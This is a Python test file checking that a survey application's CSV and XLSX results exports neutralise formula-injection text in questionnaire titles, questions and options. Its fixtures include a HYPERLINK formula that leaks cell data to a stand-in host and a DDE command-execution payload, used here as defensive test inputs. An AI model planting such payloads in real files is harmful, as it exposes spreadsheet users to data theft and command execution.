"""The results export (CSV and XLSX) with a questionnaire whose title, question and options look like
formulas: every such cell comes out as quoted text, never a formula, and the counts stay numbers."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from tests.surveys.helpers import make_project, make_questionnaire, paper

TITLE = '=HYPERLINK("http://evil.example/?leak="&E5,"点此核对")'
QUESTION = "=cmd|' /C calc'!A0"
OPTIONS = ["-5", "@SUM(A1:A9)", "+1+2"]
HOSTILE = {TITLE, QUESTION, *OPTIONS}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


async def hostile_results(client, world) -> str:
    pid = await make_project(client, world, title="=1+2")
    q = await make_questionnaire(client, world, pid, kind="satisfaction", title=TITLE, questions=[
        {"type": "single_choice", "text": QUESTION, "options": [{"text": t} for t in OPTIONS]}])
    for h, pick in zip(world.households[4:8], ["o1", "o1", "o2", "o3"], strict=True):
        r = await paper(client, world, q["id"], h["id"], [{"question_id": "q1", "value": pick}])
        assert r.status_code == 201, r.text
    return q["id"]


async def test_results_csv_keeps_hostile_text_as_text(client, world) -> None:
    qid = await hostile_results(client, world)
    r = await client.get(f"/api/v1/questionnaires/{qid}/results.csv", headers=world.staff)
    assert r.status_code == 200, r.text
    assert r.headers["cache-control"] == "no-store" and r.headers["x-content-type-options"] == "nosniff"
    table = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    cells = [v for row in table for v in row]
    assert not [v for v in cells if v.startswith(TRIGGERS)]  # nothing a spreadsheet would run
    for text in HOSTILE:
        assert "'" + text in cells, text
    title_row = next(row for row in table if row[2] == "问卷")
    assert title_row[3] == "'" + TITLE
    option_rows = {row[3]: row for row in table if row[2] == "'" + QUESTION and row[3] != "作答户数"}
    assert option_rows["'-5"][4] == "2" and option_rows["'@SUM(A1:A9)"][4] == "1"
    assert "\"'-5\",2," in r.content.decode("utf-8-sig")  # text quoted, the count a bare number


async def test_results_xlsx_keeps_hostile_text_as_text(client, world) -> None:
    qid = await hostile_results(client, world)
    r = await client.get(f"/api/v1/questionnaires/{qid}/results.xlsx", headers=world.staff)
    assert r.status_code == 200, r.text
    assert r.headers["cache-control"] == "no-store"
    ws = load_workbook(io.BytesIO(r.content))["统计结果"]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [v for v in texts if v.startswith(TRIGGERS)]
    for text in HOSTILE:
        assert "'" + text in texts, text
    row = next(row for row in ws.iter_rows(values_only=True) if row[2] == "'" + QUESTION and row[3] == "'-5")
    assert row[4] == 2 and isinstance(row[4], int)  # counts stay numbers
